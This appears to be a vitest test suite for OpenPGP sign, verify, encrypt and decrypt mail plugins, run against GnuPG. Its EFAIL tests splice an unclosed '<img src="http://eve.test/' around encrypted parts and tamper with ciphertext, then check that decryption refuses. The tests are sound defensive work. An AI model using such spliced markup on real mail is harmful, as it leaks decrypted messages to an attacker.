/** Mail is signed, encrypted and opened: GnuPG verifies and opens what we make, and we open what GnuPG makes. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Part } from '../../../core/index.ts';
import { faultsIn } from '../../../core/testing.ts';
import pgpDecrypt from '../../../plugins/pgp-decrypt/index.ts';
import pgpEncrypt from '../../../plugins/pgp-encrypt/index.ts';
import pgpSign from '../../../plugins/pgp-sign/index.ts';
import pgpVerify from '../../../plugins/pgp-verify/index.ts';
import { describeWithGnupg, Gnupg } from '../../support/gnupg.ts';
import { AT_NOW, MADE, make, NOW, parts, treeOf } from './sealing.ts';

const MAIL = [
  'Received: from client.test',
  'From: Ann <ann@example.test>',
  'To: Bob <bob@example.test>',
  'Subject: =?utf-8?q?gr=C3=BC=C3=9Fe?= from',
  ' Ann',
  'Date: Mon, 23 Nov 2026 11:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: text/plain;',
  ' charset=utf-8',
  '',
  'From the first line on',
  '-- ',
  'trailing blanks  ',
  '',
].join('\r\n');
const BEYOND_ASCII = `${MAIL}gr\xc3\xbc\xc3\x9fe\r\n`;

/** Holds every private key; judges and opens. */
let gnupg: Gnupg;
const files: Record<string, string> = {};
let ann = '';
let bob = '';
let carl = '';

const privateKeys = (name: string) => ({ keys: `./private/${name}.asc` });
const octetsOf = ({ octets }: Part) => octets;

describeWithGnupg('with GnuPG as a peer', () => {
  beforeAll(async () => {
    gnupg = await Gnupg.create();
    const make = async (name: string, algorithm: 'ed25519' | 'rsa2048') => {
      const fingerprint = await gnupg.makeKey({
        userId: `${name} <${name}@example.test>`,
        algorithm,
        made: MADE,
        expires: 'never',
      });
      await gnupg.addEncryptionSubkey(fingerprint, MADE, algorithm === 'ed25519' ? 'cv25519' : 'rsa2048');
      files[`keys/${name}.asc`] = await gnupg.publicKey(fingerprint);
      files[`private/${name}.asc`] = await gnupg.privateKey(fingerprint);
      return fingerprint;
    };
    ann = await make('ann', 'ed25519');
    bob = await make('bob', 'rsa2048');
    carl = await make('carl', 'ed25519');
  }, 60_000);
  afterAll(() => gnupg.remove());

  test('what is signed GnuPG verifies, and so do we, with the fields of the header in it', async () => {
    const { kind, mail, changes } = await make(pgpSign, privateKeys('ann'), BEYOND_ASCII, { files });
    expect(kind).toBe('rewrite');
    expect(changes.at(-1)).toBe(`signed with the OpenPGP key ${ann}`);
    const [signed, signature] = parts(mail, 2);
    if (signed === undefined || signature === undefined) throw new Error('two parts');
    expect(await gnupg.verify(octetsOf(signed), AT_NOW, signature.body.toString())).toEqual(['GOODSIG']);
    expect(signed.header.values('Subject')).toEqual(['=?utf-8?q?gr=C3=BC=C3=9Fe?= from Ann']);
    expect(signed.header.first('Content-Type')).toBe('text/plain; charset=utf-8; protected-headers="v1"');
    expect(octetsOf(signed).every(octet => octet < 128)).toBe(true);
    expect(treeOf(mail).header.first('Content-Type')).toMatch(
      /^multipart\/signed; protocol="application\/pgp-signature"; micalg=pgp-sha(256|512); boundary="[0-9a-f]{32}"$/,
    );
    const judged = await make(pgpVerify, { keyring: './keys', header: false }, mail, { files });
    expect(judged.facts).toMatchObject({ pgp: 'good', 'pgp.signer': 'ann@example.test', 'pgp.aligned': true });
  });

  test('what is signed and then changed GnuPG does not verify', async () => {
    const { mail } = await make(pgpSign, privateKeys('ann'), MAIL, { files });
    const [signed, signature] = parts(mail, 2);
    const changed = Buffer.from(signed?.octets.toString('latin1').replace('first', 'worst') ?? '', 'latin1');
    expect(await gnupg.verify(changed, AT_NOW, signature?.body.toString() ?? '')).toEqual(['BADSIG']);
  });

  test('the fields outside stay as they were, to the octet, and seven-bit text does too', async () => {
    const { mail } = await make(pgpSign, privateKeys('ann'), MAIL, { files });
    const outside = MAIL.slice(0, MAIL.indexOf('MIME-Version'));
    expect(mail.startsWith(outside)).toBe(true);
    expect(parts(mail, 2)[0]?.body.toString('latin1')).toBe(MAIL.slice(MAIL.indexOf('\r\n\r\n') + 4));
  });

  test.each([
    { what: 'of an author without a key', mail: MAIL.replace('From: Ann <ann', 'From: Eve <eve') },
    { what: 'of two authors', mail: MAIL.replace('From: Ann', 'From: Eve <eve@example.test>\r\nFrom: Ann') },
    { what: 'without an end of its header', mail: 'From: Ann <ann@example.test>\r\nthis is no field\r\n' },
  ])('a mail $what passes unsigned, or not at all, as the configuration says', async ({ mail }) => {
    expect(await make(pgpSign, privateKeys('ann'), mail, { files })).toMatchObject({ kind: 'silence' });
    expect(await make(pgpSign, { ...privateKeys('ann'), missing: 'reject' }, mail, { files })).toMatchObject({
      kind: 'reject',
    });
    expect(await make(pgpSign, { ...privateKeys('ann'), missing: 'defer' }, mail, { files })).toMatchObject({
      kind: 'defer',
    });
  });

  test('one key may sign all mail', async () => {
    const mail = MAIL.replace('From: Ann <ann', 'From: Eve <eve');
    expect(await make(pgpSign, { ...privateKeys('ann'), signer: ann }, mail, { files })).toMatchObject({
      kind: 'rewrite',
    });
    expect(await make(pgpSign, { ...privateKeys('ann'), signer: bob }, mail, { files })).toMatchObject({
      kind: 'silence',
    });
  });

  test('what is signed is not signed again', async () => {
    const { mail } = await make(pgpSign, privateKeys('ann'), MAIL, { files });
    expect(await make(pgpSign, { ...privateKeys('ann'), missing: 'reject' }, mail, { files })).toMatchObject({
      kind: 'silence',
    });
  });

  test('what is encrypted GnuPG opens for each recipient, and finds the signature and the subject inside', async () => {
    const options = { keyring: './keys', sign: privateKeys('ann') };
    const { mail, changes } = await make(pgpEncrypt, options, MAIL, {
      files,
      to: ['bob@example.test', 'carl@example.test'],
    });
    expect(changes).toEqual([`encrypted for 2 recipients, and signed with the key ${ann}`]);
    expect(mail).not.toContain('first line');
    expect(treeOf(mail).header.values('Subject')).toEqual(['...']);
    const [version, data] = parts(mail, 2);
    expect(version?.body.toString().trim()).toBe('Version: 1');
    for (const _ of [bob, carl]) {
      const { octets, signatures } = await gnupg.decrypt(data?.body.toString() ?? '', AT_NOW);
      expect(signatures).toEqual(['GOODSIG']);
      const inside = treeOf(octets.toString('latin1'));
      expect(inside.header.first('Subject')).toBe('=?utf-8?q?gr=C3=BC=C3=9Fe?= from Ann');
      expect(inside.body.toString('latin1')).toBe(MAIL.slice(MAIL.indexOf('\r\n\r\n') + 4));
    }
  });

  test('mail is encrypted for all of its recipients or for none', async () => {
    const to = ['bob@example.test', 'eve@example.test'];
    const options = { keyring: './keys' };
    expect(await make(pgpEncrypt, options, MAIL, { files, to })).toMatchObject({ kind: 'silence', mail: MAIL });
    expect(await make(pgpEncrypt, { ...options, missing: 'reject' }, MAIL, { files, to })).toMatchObject({
      kind: 'reject',
    });
    expect(await make(pgpEncrypt, { ...options, missing: 'defer' }, MAIL, { files, to })).toMatchObject({
      kind: 'defer',
    });
  });

  test('a revoked or expired key of the keyring is used for nobody', async () => {
    const revoked = { ...files, 'keys/bob.rev': '', 'keys/revoked.asc': await gnupg.revocation(bob) };
    const expired = await gnupg.makeKey({
      userId: 'old <old@example.test>',
      algorithm: 'ed25519',
      made: MADE,
      expires: '2026-06-01',
    });
    await gnupg.addEncryptionSubkey(expired, MADE);
    const options = { keyring: './keys', missing: 'reject' };
    expect(await make(pgpEncrypt, options, MAIL, { files: revoked })).toMatchObject({ kind: 'reject' });
    const old = { ...files, 'keys/old.asc': await gnupg.publicKey(expired) };
    expect(await make(pgpEncrypt, options, MAIL, { files: old, to: ['old@example.test'] })).toMatchObject({
      kind: 'reject',
    });
    expect(await make(pgpEncrypt, options, MAIL, { files: old })).toMatchObject({ kind: 'rewrite' });
  });

  test('an archive can open what is encrypted for others', async () => {
    const options = { keyring: './keys', also: [carl] };
    const { mail } = await make(pgpEncrypt, options, MAIL, { files });
    expect(await make(pgpDecrypt, privateKeys('carl'), mail, { files })).toMatchObject({ kind: 'rewrite' });
  });

  test('what we encrypt we open, and the signature inside still verifies', async () => {
    const options = { keyring: './keys', sign: privateKeys('ann') };
    const sealed = await make(pgpEncrypt, options, MAIL, { files });
    const opened = await make(pgpDecrypt, privateKeys('bob'), sealed.mail, { files });
    expect(opened.facts).toEqual({ 'pgp.decrypted': 'opened' });
    expect(treeOf(opened.mail).header.values('Subject')).toHaveLength(1);
    expect(opened.mail).toContain('From the first line on\r\n-- \r\ntrailing blanks  \r\n');
    const [signed, signature] = parts(opened.mail, 2);
    expect(await gnupg.verify(signed?.octets ?? Buffer.alloc(0), AT_NOW, signature?.body.toString() ?? '')).toEqual([
      'GOODSIG',
    ]);
    const judged = await make(pgpVerify, { keyring: './keys', header: false }, opened.mail, { files });
    expect(judged.facts).toMatchObject({ pgp: 'good', 'pgp.signer': 'ann@example.test' });
  });

  test('what GnuPG encrypts we open: it stands in the place of the body, under the same header', async () => {
    const part = 'Content-Type: text/html; charset=utf-8\r\n\r\n<p>secret</p>\r\n';
    const armor = await gnupg.encrypt(Buffer.from(part), { to: bob, at: AT_NOW });
    const { mail, kind, breaks } = await make(pgpDecrypt, privateKeys('bob'), encryptedBy(armor), { files });
    expect({ kind, breaks }).toEqual({ kind: 'rewrite', breaks: [] });
    expect(mail).toBe(
      'From: Ann <ann@example.test>\r\nSubject: ...\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>secret</p>\r\n',
    );
  });

  test('a subject inside stands in the header, also where there was none outside; without one there is none', async () => {
    const part = 'Content-Type: text/plain; protected-headers="v1"\r\nSubject: inside\r\n\r\nsecret\r\n';
    const armor = await gnupg.encrypt(Buffer.from(part), { to: bob, at: AT_NOW });
    const without = encryptedBy(armor).replace('Subject: ...\r\n', '');
    const { mail } = await make(pgpDecrypt, privateKeys('bob'), without, { files });
    expect(treeOf(mail).header.values('Subject')).toEqual(['inside']);
    const plain = MAIL.replace(/Subject: [^]*? Ann\r\n/, '');
    const sealed = await make(pgpEncrypt, { keyring: './keys' }, plain, { files });
    expect(treeOf(sealed.mail).header.values('Subject')).toEqual([]);
  });

  test('what cannot be opened stays as it is, or is refused', async () => {
    const armor = await gnupg.encrypt(Buffer.from('Content-Type: text/plain\r\n\r\nx\r\n'), { to: carl, at: AT_NOW });
    const sealed = encryptedBy(armor);
    expect(await make(pgpDecrypt, privateKeys('bob'), sealed, { files })).toMatchObject({
      kind: 'note',
      facts: { 'pgp.decrypted': 'closed' },
    });
    expect(await make(pgpDecrypt, { ...privateKeys('bob'), closed: 'reject' }, sealed, { files })).toMatchObject({
      kind: 'reject',
    });
    expect(await make(pgpDecrypt, privateKeys('bob'), MAIL, { files })).toMatchObject({
      facts: { 'pgp.decrypted': 'none' },
    });
  });

  test.each([
    {
      what: 'a third part',
      spoil: (mail: string) => mail.replace('--sealed--', '--sealed\r\n\r\n<img src="http://eve.test/\r\n--sealed--'),
    },
    { what: 'text behind the last boundary', spoil: (mail: string) => `${mail}read this too\r\n` },
    {
      what: 'a wrapper around it',
      spoil: (mail: string) =>
        `From: eve@example.test\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\n<img src="http://eve.test/\r\n--x\r\n${mail.slice(mail.indexOf('Content-Type'))}\r\n--x--\r\n`,
    },
  ])('EFAIL, direct exfiltration: $what keeps it closed', async ({ spoil }) => {
    const armor = await gnupg.encrypt(Buffer.from('Content-Type: text/plain\r\n\r\nsecret\r\n'), {
      to: bob,
      at: AT_NOW,
    });
    const made = await make(pgpDecrypt, privateKeys('bob'), spoil(encryptedBy(armor)), { files });
    expect(made.kind).toBe('note');
    expect(made.mail).not.toContain('\r\nsecret');
  });

  test('EFAIL, malleability: what is not as it was sealed is not opened', async () => {
    const armor = await gnupg.encrypt(Buffer.from('Content-Type: text/plain\r\n\r\nsecret\r\n'), {
      to: bob,
      at: AT_NOW,
    });
    const lines = armor.split('\n');
    const at = lines.findIndex(line => line === '') + 8;
    const line = lines[at] ?? '';
    lines[at] = `${line.startsWith('A') ? 'B' : 'A'}${line.slice(1)}`;
    const made = await make(pgpDecrypt, privateKeys('bob'), encryptedBy(lines.join('\n')), { files });
    expect(made.facts).toEqual({ 'pgp.decrypted': 'closed' });
  });

  test('keys that are missing or locked are complaints at the start', async () => {
    for (const plugin of [pgpSign, pgpDecrypt]) {
      expect((await faultsIn(plugin, { keys: './private/none' }, { files, now: NOW })).join()).toContain(
        'no private keys can be used',
      );
    }
    expect((await faultsIn(pgpEncrypt, { keyring: './none' }, { files, now: NOW })).join()).toContain(
      'no keys can be read',
    );
    expect(
      (await faultsIn(pgpEncrypt, { keyring: './keys', sign: { keys: './none' } }, { files, now: NOW })).join(),
    ).toContain('no private keys can be used');
  });
});

/** A multipart/encrypted around a message (RFC 3156 section 4). */
function encryptedBy(armor: string): string {
  return [
    'From: Ann <ann@example.test>',
    'Subject: ...',
    'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=sealed',
    '',
    '--sealed',
    'Content-Type: application/pgp-encrypted',
    '',
    'Version: 1',
    '',
    '--sealed',
    'Content-Type: application/octet-stream',
    '',
    armor.replaceAll(/\r?\n/g, '\r\n'),
    '--sealed--',
    '',
  ].join('\r\n');
}
